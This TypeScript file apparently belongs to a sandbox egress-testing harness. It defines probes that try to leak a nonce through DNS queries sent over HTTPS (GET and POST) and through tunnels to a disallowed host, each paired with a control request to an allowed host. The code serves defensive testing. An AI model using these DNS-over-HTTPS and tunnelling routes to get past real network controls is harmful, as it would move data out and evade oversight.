import type { Targets } from '../../arena/targets.ts';
import { ask, inTunnel, textOf } from '../../guest/requests.ts';
import { all, question } from '../../guest/wire.ts';
import type { Probe } from '../probe.ts';
import { own4 } from '../ways/aims.ts';
import { framed, leak, leakedBy } from './asked.ts';

/** Questions in requests and tunnels. */

function posted(t: Targets, host: string, name: string): Promise<void> {
  const body = question(name).toString('latin1');
  const lines = ['Content-Type: application/dns-message', `Content-Length: ${Buffer.byteLength(body)}`];
  return ask(t, { host, path: '/dns-query', method: 'POST', lines, body });
}

const overHttps = { ...leak, control: 'canary', source: 'RFC 8484: DoH' } as const;

export const IN_HTTP: readonly Probe[] = [
  {
    ...overHttps,
    id: 'dns-https-get',
    claim: 'No DNS server can be asked over HTTP that no rule allows.',
    attack: 'ask by HTTP, in the URL (DoH)',
    run: {
      attack: (t, nonce) => ask(t, { host: t.names.other, path: `/dns-query?dns=${nonce}` }),
      control: (t, nonce) => ask(t, { host: t.names.http, path: `/dns-query?dns=${nonce}` }),
    },
  },
  {
    ...overHttps,
    id: 'dns-https-post',
    claim: 'No DNS server can be asked over HTTP, in a message, that no rule allows.',
    attack: 'ask by HTTP, as a message (DoH)',
    run: {
      attack: (t, nonce) => posted(t, t.names.other, leakedBy(nonce)),
      control: (t, nonce) => posted(t, t.names.http, leakedBy(nonce)),
    },
  },
  {
    ...overHttps,
    id: 'dns-tunnel',
    claim: 'No tunnel carries DNS.',
    attack: 'ask through a tunnel',
    source: 'RFC 7766: DNS over TCP; MITRE ATT&CK T1572, protocol tunnelling',
    run: {
      attack: (t, nonce) =>
        all(
          [...own4(t), t.names.http, t.names.tls].map((host) =>
            inTunnel(`${host}:${t.port}`, framed(leakedBy(nonce))),
          ),
        ),
      control: (t, nonce) =>
        inTunnel(
          `${t.names.http}:${t.port}`,
          textOf({ target: `/${nonce}`, lines: [`Host: ${t.names.http}:${t.port}`] }),
        ),
    },
  },
];
